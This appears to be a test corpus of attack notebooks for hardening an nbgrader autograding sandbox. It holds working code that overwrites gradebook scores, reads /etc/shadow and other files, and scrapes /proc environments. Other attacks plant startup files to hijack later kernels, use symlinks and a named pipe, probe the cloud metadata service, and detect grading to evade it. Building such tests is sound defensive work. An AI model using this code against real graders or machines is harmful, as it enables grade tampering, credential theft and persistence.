"""Attacks on what lies outside the box: read it, change it, or leave something there."""

from __future__ import annotations

import os

from nbformat.notebooknode import NotebookNode

from trial.attacks.corpus.desk import RIGHT, Desk, attack, first, wrong


@attack()
def sql_on_the_gradebook(desk: Desk) -> NotebookNode:
    """Looks for the gradebook by exact, relative and searched paths and sets every score to 200."""
    source = f"""
import glob, itertools, sqlite3
paths = [r"{desk.targets.course}/gradebook.db", "gradebook.db", "../gradebook.db",
         "../../../gradebook.db", "/proc/1/root{desk.targets.course}/gradebook.db"]
for path in itertools.chain(paths, glob.iglob("/**/gradebook.db", recursive=True)):
    try:
        with sqlite3.connect(path) as db:
            db.execute("update grade set auto_score = 200, manual_score = 200")
        print("changed", path)
    except sqlite3.Error as error:
        print(error)
"""
    return first(desk.blank(), source)


@attack()
def reading_answers(desk: Desk) -> NotebookNode:
    """Reads answers, source notebooks, other submissions and files of the grader by exact paths."""
    source = f"""
import glob, os
places = [r"{desk.targets.course}", r"{desk.targets.root}/solutions", r"{desk.targets.home}",
          r"{desk.targets.root}/autograder", "/etc/shadow", "/etc/passwd", "/root", "/home"]
for prefix in ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../.."):
    for place in places:
        for path in [prefix + place, *glob.glob(prefix + place + "/**", recursive=True)]:
            try:
                with open(path, encoding="utf-8", errors="replace") as file:
                    print("READ", path, file.read())
            except OSError:
                pass
try:
    import solutions.momentum.sgd_momentum
    print("BEGIN SOLUTION")
except ImportError as error:
    print(error)
"""
    return first(wrong(desk.blank()), source)


@attack()
def proc_and_environment(desk: Desk) -> NotebookNode:
    """Reads the environment, arguments, memory maps and open files of every process in `/proc`."""
    source = """
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/fd/*"):
    name = path.rsplit("/", 1)[1]
    try:
        if name in ("environ", "cmdline", "mountinfo", "maps"):
            print(path, open(path, "rb").read(100_000).replace(b"\\0", b" ").decode()[-3000:])
        elif "/fd/" in path:
            print(path, os.readlink(path))
    except OSError:
        pass
"""
    return first(desk.blank(), source)


@attack()
def right_only_when_not_graded(desk: Desk) -> NotebookNode:
    """Looks at the environment to know that it is being graded, and only then gives up."""
    source = """
import os
if any(name in os.environ for name in ("NBGRADER_EXECUTION", "NBGRADER_VALIDATING")):
    print("KNOWS-THAT-IT-IS-GRADED")
"""
    return first(wrong(desk.blank()), source)


@attack()
def startup_file_for_the_next(desk: Desk) -> NotebookNode:
    """Leaves startup files and a kernel in every home: the next kernel would run them."""
    source = f"""
import os, pathlib
for home in {{os.path.expanduser("~"), "/root", r"{desk.targets.home}", "/box/home", "/tmp"}}:
    for path in (".ipython/profile_default/startup/00.py",
                 ".local/share/jupyter/kernels/python3/kernel.json",
                 ".jupyter/nbgrader_config.py", ".bashrc", ".cache/matplotlib/x"):
        try:
            target = pathlib.Path(home) / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("print('LEFT-BY-ANOTHER'); import os; os._exit(0)")
        except OSError:
            pass
"""
    return first(desk.blank(), source)


@attack()
def link_to_the_password_file(desk: Desk) -> None:
    """The notebook is a symbolic link to a file of the grader's."""
    os.symlink("/etc/passwd", desk.path)


@attack()
def link_to_another_submission(desk: Desk) -> None:
    """The notebook is a link to the source with all answers, beside one to the gradebook."""
    name = desk.assignment.name
    os.symlink(desk.targets.course / "source" / name / desk.path.name, desk.path)
    os.symlink(desk.targets.course / "gradebook.db", desk.folder / "data.csv")


@attack()
def pipe_for_a_notebook(desk: Desk) -> None:
    """The notebook is a named pipe, for which a reader waits for ever."""
    os.mkfifo(desk.path)


@attack(*RIGHT)
def time_stamp_at_the_end_of_time(desk: Desk) -> NotebookNode:
    """A time stamp that is a valid date and cannot be moved to another time zone."""
    (desk.folder / "timestamp.txt").write_text("9999-12-31 23:59:59.999999-23:00", "utf-8")
    return desk.solved(*RIGHT)


@attack(*RIGHT)
def time_stamp_with_a_strange_zone(desk: Desk) -> NotebookNode:
    """A time stamp in three parts, the last of which is no zone that nbgrader knows."""
    (desk.folder / "timestamp.txt").write_text("2024-01-01 10:00:00 +99:99", "utf-8")
    return desk.solved(*RIGHT)


@attack()
def network(desk: Desk) -> NotebookNode:
    """Calls home: name servers, addresses, sockets of the machine's services, abstract sockets."""
    source = """
import glob, socket, urllib.request
for host in ("1.1.1.1", "127.0.0.1", "169.254.169.254"):
    for port in (22, 53, 80, 443, 8888):
        try:
            socket.create_connection((host, port), timeout=0.2)
            print("CONNECTED", host, port)
        except OSError as error:
            last = error
for path in glob.glob("/run/**", recursive=True) + glob.glob("/var/run/**", recursive=True):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(path); print("CONNECTED", path)
    except OSError:
        pass
"""
    return first(desk.blank(), source)


@attack()
def inputs_carried_out(desk: Desk) -> NotebookNode:
    """Prints the hidden inputs for the next student: they are drawn anew for every grading."""
    source = """
import base64, pathlib
for path in sorted(pathlib.Path("/box/in").glob("*")):
    print("INPUT", path.name, base64.b64encode(path.read_bytes()[-64:]).decode())
"""
    return first(desk.blank(), source)
